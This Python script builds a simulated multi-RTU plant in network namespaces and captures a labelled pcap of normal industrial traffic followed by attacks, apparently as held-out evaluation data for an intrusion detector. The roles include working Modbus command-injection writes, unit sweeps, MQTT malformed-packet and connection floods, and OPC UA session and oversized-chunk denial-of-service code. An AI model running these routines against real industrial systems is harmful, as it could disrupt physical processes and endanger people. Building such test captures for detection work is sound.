#!/usr/bin/env python3
"""Capture a multi-RTU plant that runs normally, then floods and injections by real peers, in network namespaces.

Contract
--------
``sudo python pcaps/make_heldout_scenarios.py [--duration 24] [--out DIR|F.pcap]``
writes ``heldout-scenarios.pcap`` (classic pcap, Ethernet) and, beside it,
``heldout-scenarios.json``: ``start``, ``end``, ``normal_fraction`` and, per
attack, the packet-time window ``[start, end]`` its role measured around it
(wall clock inside the namespace, the clock tcpdump stamps frames with).  Needs
root, ``ip netns``, ``tcpdump`` and ``mosquitto``; the peers are pymodbus,
paho-mqtt, mosquitto and asyncua.  The namespace, bridge and tcpdump machinery
is make_demo_plant.py's, on 10.50.0.0/24.

These are the attack families of public labelled captures that
``attack-scenarios.pcap`` does not hold (the CIC Modbus 2023 and multi-RTU
Modbus captures: command injection, read sweeps; MQTTset and
MQTT-IoT-IDS2020: publish floods with large payloads, malformed packets;
the OPC UA dataset of Pinto et al. 2020: denial of service by connection and
message floods).  The first ``NORMAL_FRACTION`` of the scenario is normal
operation, which goes on while the attacks run:

* hmi polls four RTUs behind one gateway (units 1-4: FC 3 HR 0+10, FC 1 coils
  0+16) at 2 Hz on one connection, and writes unit 1's setpoint (FC 6 HR 1)
  with a plausible value twice;
* ews reads unit 2's HR 40+4 at 5 Hz over a new connection each time (as some
  SCADA drivers do): 50 connections in 10 s, the benign side of a connection flood;
* sensor publishes plant/rtu/temperature and plant/rtu/level (QoS 0, 1 s,
  a few bytes) to mosquitto, and once a 1 MiB plant/rtu/firmware blob (QoS 1):
  the benign side of a byte flood; historian subscribes plant/#;
* scada reads Line1.Temperature every second over an OPC UA session (None).

Then the attacks, one after another (``ATTACKS`` in order; fractions in ``TIMELINE``):

0. ``sensor_flood``: sensor, compromised, publishes 10,000 PUBLISHes of 1 KiB
   (QoS 0) on plant/rtu/setpoint as fast as paho-mqtt sends them, on the
   connection it has held since the start, then goes on reporting: a flood on
   a long-lived connection, which its connection's average hides.
1. ``modbus_injection``: rogue (a host never seen before) writes out-of-range
   values to every RTU: FC 6 HR 1 = 65535, FC 16 HR 2..5, FC 5 coil 20 and
   FC 15 coils 24..31 (coils nobody ever wrote), units 1-4 (pymodbus client).
2. ``rtu_read_sweep``: rogue reads HR 0..199 of units 1-4 in blocks of 10
   (exceptions 2 past HR 49).
3. ``modbus_query_flood``: rogue sends 4000 reads of RTU 1's HR 0+10 (the
   HMI's own poll) as fast as pymodbus answers them, one connection (CIC
   Modbus 2023's "query flooding").
4. ``mqtt_publish_flood``: rogue publishes 3000 messages of 2 KiB on the
   existing topics as fast as paho-mqtt sends them (QoS 0), one connection.
5. ``mqtt_client_flood``: rogue runs 20 MQTT clients one after another, each
   publishing 300 small messages on the existing topics and leaving (the
   shape of MQTT-malaria's floods: many short clients from one address).
6. ``mqtt_malformed_flood``: rogue sends 200 malformed MQTT packets, each on a
   connection of its own (bad protocol name, reserved flags, QoS 3, a remaining
   length that lies, an invalid UTF-8 topic); mosquitto drops each connection.
7. ``opcua_connection_flood``: rogue opens 300 connections with asyncua's
   client: Hello, OpenSecureChannel (None), close, as fast as it can.
8. ``opcua_session_flood``: rogue opens one secure channel and creates 120
   sessions on it with asyncua (CreateSession; never activated nor closed).
9. ``opcua_request_flood``: rogue opens one session and sends 5000 Read
   requests, 50 in flight at a time.
10. ``modbus_unit_sweep``: rogue reads HR 0 of unit ids 1-247 behind the
    gateway, pipelined on one raw socket (a multi-RTU discovery scan; the
    gateway answers units 1-4), after its other Modbus attacks in the same
    minute (past the engine's key budget of a source).
11. ``hmi_injection`` (the hmi role, while the rogue floods OPC UA): the HMI,
    compromised, writes out-of-range set-points and coils to RTUs 2-4, which
    it only ever read, on the connection it has polled on since the start
    (FC 6 HR 1 and HR 10-13, FC 16 HR 2..5, FC 5 coil 20, FC 15 coils 24..31).
12. ``mqtt_connect_flood`` (bot, a second attacker host): 300 MQTT
    connections, each CONNECT with a client id of its own, CONNACK,
    DISCONNECT (raw sockets).
13. ``opcua_oversized_chunks``: rogue opens 20 raw connections: Hello asking
    for 64 KiB buffers, then a MSG chunk of 256 KiB (past what was
    negotiated); asyncua drops each.
14. ``sensor_topic_flood`` (the sensor role): the sensor publishes 5,000
    PUBLISHes on plant/rtu/temperature, the topic it has published every
    second since the start, at QoS 1 (paho-mqtt, 20 in flight), on its own
    connection: no key is new.
15. ``hmi_poll_flood`` (the hmi role, after its injection): the HMI reads
    unit 1's HR 0+10, its own poll, 3,000 times as fast as pymodbus answers,
    on its own connection (query flooding from a compromised master).

Windows of different roles may overlap (the rogue's sequence overruns its
timeline on a loaded machine); the harness attributes evidence by window.
The capture is filtered to the scenario's hosts (``TCPDUMP_FILTER``): the
namespaces' IGMP reports (the historian joins a multicast group) stay out.

The same file is the program that runs inside each namespace (``--role``).
"""
from __future__ import annotations

import argparse
import asyncio
import logging
import os
import socket
import struct
import sys
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
if str(HERE) not in sys.path:
    sys.path.insert(0, str(HERE))

import make_demo_plant as plant  # noqa: E402  (namespace/bridge/tcpdump helpers)
from make_demo_plant import Host  # noqa: E402
from make_attack_scenarios import run_scenario, window  # noqa: E402  (one orchestration, one ATTACK-WINDOW format)

DEFAULT_PREFIX = "otwho"
DEFAULT_DURATION = 24.0
MIN_DURATION = 16.0
PCAP_NAME = "heldout-scenarios.pcap"

SUBNET_PREFIX_LEN = 24
BRIDGE_MAC = "02:00:0a:32:00:fe"
HOSTS: tuple[Host, ...] = (
    Host("gw", "10.50.0.10", "00:90:e8:32:00:0a", "Modbus/TCP gateway 502 (pymodbus; RTUs 1-4, HR 0-49, coils 0-31)"),
    Host("hmi", "10.50.0.21", "00:00:bc:32:00:15", "Modbus/TCP client polling RTUs 1-4 at 2 Hz; setpoint writes"),
    Host("ews", "10.50.0.31", "00:14:22:32:00:1f", "engineering station: a new Modbus connection per read, 5 Hz"),
    Host("scada", "10.50.0.22", "02:00:0a:32:00:16", "OPC UA client reading every 1 s (None, anonymous)"),
    Host("historian", "10.50.0.41", "02:00:0a:32:00:29", "MQTT subscriber plant/#"),
    Host("broker", "10.50.0.50", "02:00:0a:32:00:32", "mosquitto 1883, anonymous"),
    Host("opcua", "10.50.0.60", "02:00:0a:32:00:3c", "asyncua OPC UA server 4840 (None)"),
    Host("rogue", "10.50.0.66", "02:00:0a:32:00:42", "attacker: Modbus injection and read sweep, MQTT publish and "
         "malformed floods, OPC UA connection and request floods"),
    Host("sensor", "10.50.0.71", "02:00:0a:32:00:47", "MQTT 3.1.1 publisher plant/rtu/temperature, level"),
    Host("bot", "10.50.0.77", "02:00:0a:32:00:4d", "attacker: an MQTT connection flood, a client id per connection"),
)
IP = {h.name: h.ip for h in HOSTS}
SERVERS = ("gw", "broker", "opcua")
CLIENTS = ("hmi", "ews", "sensor", "historian", "scada", "rogue", "bot")

MODBUS_PORT, MQTT_PORT, OPCUA_PORT = 502, 1883, 4840
OPCUA_URL = f"opc.tcp://{IP['opcua']}:{OPCUA_PORT}/otwatch/heldout"
OPCUA_NS_URI = "urn:otwatch:heldout:plant"
RTUS = (1, 2, 3, 4)
HOLDING_COUNT = 50
COIL_COUNT = 32
POLL_HZ = 2.0
CLIENT_STOP_MARGIN = 1.0
TOPICS = ("plant/rtu/temperature", "plant/rtu/level")
FIRMWARE_TOPIC = "plant/rtu/firmware"
FIRMWARE_BYTES = 1 << 20
EWS_HZ = 5.0

FLOOD_PUBLISHES = 3000
FLOOD_PAYLOAD = 2048
CLIENT_FLOOD_CLIENTS = 20
CLIENT_FLOOD_PUBLISHES = 300
MALFORMED_PACKETS = 200
SENSOR_FLOOD_PUBLISHES = 10000
SENSOR_FLOOD_PAYLOAD = 1024
SENSOR_FLOOD_TOPIC = "plant/rtu/setpoint"
QUERY_FLOOD_REQUESTS = 4000
POLL_FLOOD_REQUESTS = 3000
"""The HMI's flood of its own poll (unit 1 HR 0+10) on its own connection: a key it has used since the start."""
TOPIC_FLOOD_PUBLISHES = 5000
"""The sensor's QoS 1 flood of plant/rtu/temperature, the topic it has published every second since the start."""
UNIT_SWEEP_IDS = range(1, 248)
"""Every unit id a Modbus/TCP gateway may route to (0 is broadcast, 248-255 reserved)."""
CONNECT_FLOOD_CLIENTS = 300
OVERSIZED_CONNECTIONS = 20
OVERSIZED_CHUNK = 1 << 18
HMI_INJECTION_UNITS = (2, 3, 4)
MULTICAST_GROUP = "239.192.0.1"
"""The historian joins it (as a host listening for a vendor's discovery would): its IGMP report is not captured."""
OPCUA_CONNECTIONS = 300
OPCUA_READS = 5000
OPCUA_SESSIONS = 120
OPCUA_IN_FLIGHT = 50

NORMAL_FRACTION = 0.40
"""The normal part: the scenario's first 40 %.  Nothing attacks before it ends."""
TIMELINE = {
    "hmi_write_1": 0.12,
    "firmware": 0.20,
    "hmi_write_2": 0.30,
    "sensor_flood": 0.43,
    "modbus_injection": 0.485,
    "rtu_read_sweep": 0.50,
    "modbus_query_flood": 0.52,
    "mqtt_publish_flood": 0.55,
    "mqtt_client_flood": 0.60,
    "mqtt_malformed_flood": 0.65,
    "opcua_connection_flood": 0.73,
    "opcua_session_flood": 0.78,
    "opcua_request_flood": 0.84,
    "hmi_injection": 0.75,      # more than write_burst's window after the last benign set-point
    "modbus_unit_sweep": 0.88,
    "mqtt_connect_flood": 0.90,
    "opcua_oversized_chunks": 0.92,
    "sensor_topic_flood": 0.68,
    "hmi_poll_flood": 0.81,
}
ATTACKS = ("sensor_flood", "modbus_injection", "rtu_read_sweep", "modbus_query_flood", "mqtt_publish_flood", "mqtt_client_flood",
           "mqtt_malformed_flood", "opcua_connection_flood", "opcua_session_flood", "opcua_request_flood",
           "hmi_injection", "modbus_unit_sweep", "mqtt_connect_flood", "opcua_oversized_chunks",
           "sensor_topic_flood", "hmi_poll_flood")

log = logging.getLogger("heldout-scenarios")


# ==========================================================================
# Builder (root namespace; only ever touches its own namespaces)
# ==========================================================================
def write_mosquitto_config(work: Path) -> Path:
    conf = work / "mosquitto.conf"
    conf.write_text(
        "# otwatch held-out scenarios broker\n"
        "user root\n"
        f"listener {MQTT_PORT} {IP['broker']}\n"
        "allow_anonymous true\n"
        "persistence false\n"
        "sys_interval 0\n"
        "max_queued_messages 100000\n"
        "log_dest stderr\n"
        "log_type error\nlog_type warning\nlog_type notice\n"
    )
    return conf


# what make_attack_scenarios.run_scenario needs beyond the host table and the timeline
TOOLS = ("ip", "tcpdump", "mosquitto")
WORK_PREFIX = "otwatch-heldout-"
TCPDUMP_EXTRA = ("-B", "65536")
TCPDUMP_FILTER = ("arp", "or", "(ip", "and", "src", "net", "10.50.0.0/24", "and", "dst", "net", "10.50.0.0/24)")
"""Only the scenario's hosts' own traffic: the kernels' IGMP membership reports (from 0.0.0.0 while an interface
comes up, to 224.0.0.22 when a host joins a group) come and go with timing, and a policy denies them."""
SERVER_ROLES = ("gw", "opcua")
LISTEN = (("broker", "broker", "tcp", MQTT_PORT), ("gw", "gw", "tcp", MODBUS_PORT),
          ("opcua", "opcua", "tcp", OPCUA_PORT))
CLIENT_WAIT_DIV = 2


def build(args: argparse.Namespace) -> Path:
    return run_scenario(args, sys.modules[__name__])


# ==========================================================================
# Roles (inside the namespaces)
# ==========================================================================
def at(args, key: str) -> float:
    return args.start + (args.end - args.start) * TIMELINE[key]


async def gw_main(args) -> None:
    from pymodbus.server import ModbusTcpServer
    from pymodbus.simulator import DataType, SimData, SimDevice

    def device(unit: int) -> SimDevice:
        return SimDevice(unit, simdata=(
            [SimData(0, values=[bool((unit + i) % 3 == 0) for i in range(COIL_COUNT)], datatype=DataType.BITS)],
            [SimData(0, values=[i % 2 == 0 for i in range(16)], datatype=DataType.BITS)],
            [SimData(0, values=[unit * 100 + i for i in range(HOLDING_COUNT)], datatype=DataType.REGISTERS)],
            [SimData(0, values=[unit * 10 + i for i in range(16)], datatype=DataType.REGISTERS)],
        ))

    server = ModbusTcpServer([device(u) for u in RTUS], address=(IP["gw"], MODBUS_PORT))
    stop = plant.install_sigterm(asyncio.get_running_loop())
    task = asyncio.create_task(server.serve_forever())
    await stop.wait()
    await server.shutdown()
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)


async def opcua_server_main(args) -> None:
    from asyncua import Server, ua

    server = Server()
    await server.init()
    server.set_endpoint(OPCUA_URL)
    server.set_server_name("otwatch held-out OPC UA server")
    server.set_security_policy([ua.SecurityPolicyType.NoSecurity])
    idx = await server.register_namespace(OPCUA_NS_URI)
    line = await server.nodes.objects.add_object(idx, "Line1")
    temp = await line.add_variable(idx, "Temperature", 21.5)
    stop = plant.install_sigterm(asyncio.get_running_loop())
    async with server:
        n = 0
        while not stop.is_set():
            n += 1
            await temp.write_value(21.5 + (n % 20) * 0.1)
            try:
                await asyncio.wait_for(stop.wait(), 0.5)
            except asyncio.TimeoutError:
                pass


async def hmi_main(args) -> None:
    c = await plant.modbus_client(IP["gw"], args.end)
    period = 1.0 / POLL_HZ
    next_t = time.time()
    writes = [("hmi_write_1", 215), ("hmi_write_2", 220)]
    inject = flood = True
    while time.time() + period < args.end:
        for unit in RTUS:
            await c.read_holding_registers(0, count=10, device_id=unit)
            await c.read_coils(0, count=16, device_id=unit)
        if writes and time.time() >= at(args, writes[0][0]):
            await c.write_register(1, writes.pop(0)[1], device_id=1)
        if inject and time.time() >= at(args, "hmi_injection"):
            inject = False
            with window("hmi_injection"):
                await hmi_injection(c)
        if flood and time.time() >= at(args, "hmi_poll_flood"):
            flood = False
            with window("hmi_poll_flood"):
                for _ in range(POLL_FLOOD_REQUESTS):
                    await c.read_holding_registers(0, count=10, device_id=1)
        next_t += period
        await asyncio.sleep(max(0.0, next_t - time.time()))
    c.close()


async def hmi_injection(c) -> None:
    """The HMI, compromised, injects commands on its own connection: out-of-range set-points and coil commands
    to the RTUs it only ever read (CIC Modbus 2023's command injection from a compromised HMI)."""
    for unit in HMI_INJECTION_UNITS:
        await c.write_register(1, 65535, device_id=unit)
        await c.write_registers(2, [0xFFFF, 0x8000, 0x7FFF, 0xDEAD], device_id=unit)
        for address in range(10, 14):
            await c.write_register(address, 0, device_id=unit)
        await c.write_coil(20, True, device_id=unit)
        await c.write_coils(24, [True] * 8, device_id=unit)


async def ews_main(args) -> None:
    period = 1.0 / EWS_HZ
    next_t = time.time()
    while time.time() + period < args.end:
        c = await plant.modbus_client(IP["gw"], args.end)
        await c.read_holding_registers(40, count=4, device_id=2)
        c.close()
        next_t += period
        await asyncio.sleep(max(0.0, next_t - time.time()))


def _mqtt_client(client_id: str):
    import paho.mqtt.client as mqtt

    return mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=client_id, protocol=mqtt.MQTTv311)


def sensor_flood(c) -> None:
    """The sensor, compromised, floods the broker on the connection it has held since the start."""
    payload = bytes(range(256)) * (SENSOR_FLOOD_PAYLOAD // 256)
    infos = [c.publish(SENSOR_FLOOD_TOPIC, payload, qos=0) for _ in range(SENSOR_FLOOD_PUBLISHES)]
    deadline = time.time() + 10
    while any(not i.is_published() for i in infos) and time.time() < deadline:
        time.sleep(0.01)


def sensor_topic_flood(c) -> None:
    """The sensor, compromised, floods the topic it has always published, at QoS 1 (paho's 20 in flight)."""
    infos = [c.publish(TOPICS[0], f"{99.9 + i % 10:.1f}", qos=1) for i in range(TOPIC_FLOOD_PUBLISHES)]
    deadline = time.time() + 10
    while any(not i.is_published() for i in infos) and time.time() < deadline:
        time.sleep(0.01)


def role_sensor(args) -> None:
    c = _mqtt_client("rtu-sensor")
    c.max_queued_messages_set(0)
    plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
    n = 0
    firmware_sent = False
    flood_at = at(args, "sensor_flood")
    topic_flood_at = at(args, "sensor_topic_flood")
    next_t = time.time()
    while time.time() + 1.0 < args.end:
        n += 1
        c.publish(TOPICS[0], f"{21.5 + (n % 10) * 0.1:.1f}", qos=0)
        c.publish(TOPICS[1], f"{3.20 + (n % 7) * 0.01:.2f}", qos=0)
        if not firmware_sent and time.time() >= at(args, "firmware"):
            c.publish(FIRMWARE_TOPIC, bytes(range(256)) * (FIRMWARE_BYTES // 256), qos=1).wait_for_publish(5)
            firmware_sent = True
        next_t += 1.0
        if flood_at is not None and flood_at < next_t:
            plant.wait_until(flood_at)
            flood_at = None
            with window("sensor_flood"):
                sensor_flood(c)
                time.sleep(0.2)
        if topic_flood_at is not None and topic_flood_at < next_t:
            plant.wait_until(topic_flood_at)
            topic_flood_at = None
            with window("sensor_topic_flood"):
                sensor_topic_flood(c)
        plant.wait_until(next_t)
    c.disconnect()
    c.loop_stop()


def role_historian(args) -> None:
    mc = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)      # a multicast listener: IGMP reports on the wire
    mc.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                  socket.inet_aton(MULTICAST_GROUP) + socket.inet_aton(IP["historian"]))
    c = _mqtt_client("historian")
    plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
    c.subscribe("plant/#", 0)
    plant.wait_until(args.end - 0.3)
    c.disconnect()
    c.loop_stop()
    mc.close()


async def scada_main(args) -> None:
    from asyncua import Client

    client = Client(OPCUA_URL, timeout=4)
    while True:
        try:
            await client.connect()
            break
        except (OSError, asyncio.TimeoutError):
            if time.time() > args.end:
                raise
            await asyncio.sleep(0.3)
    try:
        idx = await client.get_namespace_index(OPCUA_NS_URI)
        temp = await client.nodes.objects.get_child([f"{idx}:Line1", f"{idx}:Temperature"])
        while time.time() + 1.0 < args.end:
            await temp.read_value()
            await asyncio.sleep(1.0)
    finally:
        await client.disconnect()


# -- the attacker ---------------------------------------------------------------------
async def modbus_injection(args) -> None:
    c = await plant.modbus_client(IP["gw"], args.end)
    for unit in RTUS:
        await c.write_register(1, 65535, device_id=unit)
        await c.write_registers(2, [0xFFFF, 0x8000, 0x7FFF, 0xDEAD], device_id=unit)
        await c.write_coil(20, True, device_id=unit)
        await c.write_coils(24, [True] * 8, device_id=unit)
    c.close()


async def rtu_read_sweep(args) -> None:
    c = await plant.modbus_client(IP["gw"], args.end)
    for unit in RTUS:
        for start in range(0, 200, 10):
            await c.read_holding_registers(start, count=10, device_id=unit)
    c.close()


async def modbus_query_flood(args) -> None:
    c = await plant.modbus_client(IP["gw"], args.end)
    for _ in range(QUERY_FLOOD_REQUESTS):
        await c.read_holding_registers(0, count=10, device_id=1)
    c.close()


def mqtt_publish_flood(args) -> None:
    c = _mqtt_client("flood-7731")
    c.max_queued_messages_set(0)
    plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
    payload = bytes(range(256)) * (FLOOD_PAYLOAD // 256)
    infos = [c.publish(TOPICS[i % 2], payload, qos=0) for i in range(FLOOD_PUBLISHES)]
    deadline = time.time() + 10
    while any(not i.is_published() for i in infos) and time.time() < deadline:
        time.sleep(0.01)
    c.disconnect()
    c.loop_stop()


def mqtt_client_flood(args) -> None:
    for n in range(CLIENT_FLOOD_CLIENTS):
        c = _mqtt_client(f"malaria-{n:03d}")
        plant._mqtt_connect(c, args.end, keepalive=30, broker=IP["broker"])
        infos = [c.publish(TOPICS[i % 2], f"{n}:{i}:" + "x" * 48, qos=0) for i in range(CLIENT_FLOOD_PUBLISHES)]
        deadline = time.time() + 5
        while any(not i.is_published() for i in infos) and time.time() < deadline:
            time.sleep(0.005)
        c.disconnect()
        c.loop_stop()


def _mqtt_str(b: bytes) -> bytes:
    return struct.pack("!H", len(b)) + b


def malformed_packets() -> list[bytes]:
    """MQTT packets a broker must refuse (OASIS MQTT 3.1.1), the shapes fuzzers such as MQTTSA send."""
    def connect(name: bytes, level: int, flags: int) -> bytes:
        body = _mqtt_str(name) + bytes([level, flags]) + struct.pack("!H", 30) + _mqtt_str(b"fuzz")
        return bytes([0x10, len(body)]) + body

    ok_connect = connect(b"MQTT", 4, 0x02)
    return [
        connect(b"MQTX", 4, 0x02),                                   # bad protocol name
        connect(b"MQTT", 4, 0x03),                                   # reserved connect flag set (§3.1.2.3)
        ok_connect + bytes([0x36, 0x05]) + _mqtt_str(b"a/") + b"x",  # PUBLISH with QoS 3 (§3.3.1.2)
        ok_connect + bytes([0x30, 0x40]) + _mqtt_str(b"plant/rtu/level") + b"1.0",  # remaining length lies
        ok_connect + bytes([0x30, 0x07]) + _mqtt_str(b"\xff\xfe\x00") + b"xx",      # topic not UTF-8, has NUL
        ok_connect + bytes([0x82, 0x03, 0x00, 0x01, 0x00]),          # SUBSCRIBE with reserved bits wrong, empty
        connect(b"MQTT", 4, 0x02)[:-3] + b"\xff\xff\xff\xff\x7f",     # a remaining length of 5 bytes
    ]


def _drain(s: socket.socket, timeout: float) -> None:
    """Read what the peer still sends until it is quiet for *timeout* s or closes (a flood tool's read)."""
    s.settimeout(timeout)
    try:
        while s.recv(4096):
            pass
    except (socket.timeout, ConnectionResetError, BrokenPipeError):
        pass


def mqtt_malformed_flood(args) -> None:
    pkts = malformed_packets()
    for i in range(MALFORMED_PACKETS):
        with socket.create_connection((IP["broker"], MQTT_PORT), timeout=2) as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.sendall(pkts[i % len(pkts)])
            _drain(s, 0.05)


async def opcua_connection_flood(args) -> None:
    from asyncua import Client

    for _ in range(OPCUA_CONNECTIONS):
        c = Client(OPCUA_URL, timeout=2)
        await c.connect_socket()
        try:
            await c.send_hello()
            await c.open_secure_channel()
        finally:
            c.disconnect_socket()


async def opcua_session_flood(args) -> None:
    from asyncua import Client

    c = Client(OPCUA_URL, timeout=2)
    await c.connect_socket()
    try:
        await c.send_hello()
        await c.open_secure_channel()
        for _ in range(OPCUA_SESSIONS):
            await c.create_session()
    finally:
        c.disconnect_socket()


async def opcua_request_flood(args) -> None:
    from asyncua import Client

    async with Client(OPCUA_URL, timeout=10) as c:
        idx = await c.get_namespace_index(OPCUA_NS_URI)
        temp = await c.nodes.objects.get_child([f"{idx}:Line1", f"{idx}:Temperature"])
        done = 0
        while done < OPCUA_READS:
            await asyncio.gather(*(temp.read_value() for _ in range(OPCUA_IN_FLIGHT)))
            done += OPCUA_IN_FLIGHT


def modbus_unit_sweep(args) -> None:
    """Read HR 0 of every unit id behind the gateway, pipelined on one connection (a multi-RTU discovery scan);
    the gateway answers the units it has and drops the rest."""
    with socket.create_connection((IP["gw"], MODBUS_PORT), timeout=2) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for tid, unit in enumerate(UNIT_SWEEP_IDS, 1):
            s.sendall(struct.pack("!HHHBBHH", tid, 0, 6, unit, 3, 0, 1))
            time.sleep(0.002)
        _drain(s, 0.3)


def mqtt_connect_flood(args) -> None:
    """300 CONNECTs, each with a client id of its own, on connections of their own (CONNECT, CONNACK,
    DISCONNECT): MQTTset's and MQTT-IoT-IDS2020's connection floods exhaust a broker's client table."""
    for i in range(CONNECT_FLOOD_CLIENTS):
        cid = f"dev-{i:04d}".encode()
        body = _mqtt_str(b"MQTT") + bytes([4, 0x02]) + struct.pack("!H", 30) + _mqtt_str(cid)
        with socket.create_connection((IP["broker"], MQTT_PORT), timeout=2) as s:
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.sendall(bytes([0x10, len(body)]) + body)
            s.recv(4)
            s.sendall(b"\xe0\x00")


def opcua_oversized_chunks(args) -> None:
    """Hello (asking for 64 KiB buffers), then a MSG chunk of 256 KiB on each of ``OVERSIZED_CONNECTIONS``
    connections: chunks past the buffer the server acknowledged (OPC UA Part 6 §7.1.2.3), the resource
    exhaustion the OPC UA dataset's DoS family includes; asyncua drops each connection."""
    url = OPCUA_URL.encode()
    hello_body = struct.pack("<IIIIIi", 0, 65536, 65536, 0, 0, len(url)) + url
    hello = b"HELF" + struct.pack("<I", 8 + len(hello_body)) + hello_body
    chunk = OVERSIZED_CHUNK
    msg = b"MSGF" + struct.pack("<II", chunk, 1) + bytes(range(256)) * ((chunk - 12) // 256) + bytes((chunk - 12) % 256)
    for _ in range(OVERSIZED_CONNECTIONS):
        with socket.create_connection((IP["opcua"], OPCUA_PORT), timeout=2) as s:
            s.sendall(hello)
            s.recv(64)
            try:
                s.sendall(msg)
            except (ConnectionResetError, BrokenPipeError):
                continue
            _drain(s, 0.2)


def role_bot(args) -> None:
    plant.wait_until(at(args, "mqtt_connect_flood"))
    with window("mqtt_connect_flood"):
        mqtt_connect_flood(args)
        time.sleep(0.2)


def role_rogue(args) -> None:
    for name, fn in (("modbus_injection", modbus_injection), ("rtu_read_sweep", rtu_read_sweep),
                     ("modbus_query_flood", modbus_query_flood),
                     ("mqtt_publish_flood", mqtt_publish_flood), ("mqtt_client_flood", mqtt_client_flood),
                     ("mqtt_malformed_flood", mqtt_malformed_flood),
                     ("opcua_connection_flood", opcua_connection_flood), ("opcua_session_flood", opcua_session_flood),
                     ("opcua_request_flood", opcua_request_flood), ("modbus_unit_sweep", modbus_unit_sweep),
                     ("opcua_oversized_chunks", opcua_oversized_chunks)):
        plant.wait_until(at(args, name))
        with window(name):
            r = fn(args)
            if asyncio.iscoroutine(r):
                asyncio.run(r)
        time.sleep(0.2)     # the last answers and FINs of this attack stay inside its window


# ==========================================================================
def host_table() -> str:
    return plant.host_table(HOSTS)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--duration", type=float, default=DEFAULT_DURATION,
                    help=f"scenario length in seconds (default {DEFAULT_DURATION:.0f}, minimum {MIN_DURATION:.0f})")
    ap.add_argument("--out", default=str(HERE), help=f"output directory (writes {PCAP_NAME}) or a .pcap path")
    ap.add_argument("--prefix", default=DEFAULT_PREFIX, help=f"namespace name prefix (default {DEFAULT_PREFIX})")
    ap.add_argument("--keep-work", action="store_true", help="keep the work dir with role logs")
    ap.add_argument("--role", help=argparse.SUPPRESS)
    ap.add_argument("--start", type=float, help=argparse.SUPPRESS)
    ap.add_argument("--end", type=float, help=argparse.SUPPRESS)
    ap.add_argument("--work", help=argparse.SUPPRESS)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")
    if args.role is None:
        if args.duration < MIN_DURATION:
            ap.error(f"--duration must be at least {MIN_DURATION:.0f} s")
        build(args)
        return 0
    logging.getLogger("asyncua").setLevel(logging.CRITICAL)
    logging.getLogger("pymodbus").setLevel(logging.CRITICAL)
    role = args.role
    if role == "ifprep":
        plant.role_ifprep()
    elif role == "gw":
        asyncio.run(gw_main(args))
    elif role == "opcua":
        asyncio.run(opcua_server_main(args))
    elif role in ("hmi", "ews", "scada"):
        plant.install_sigterm()
        asyncio.run({"hmi": hmi_main, "ews": ews_main, "scada": scada_main}[role](args))
    elif role == "sensor":
        role_sensor(args)
    elif role == "historian":
        role_historian(args)
    elif role == "rogue":
        role_rogue(args)
    elif role == "bot":
        role_bot(args)
    else:
        raise SystemExit(f"unknown role {role}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
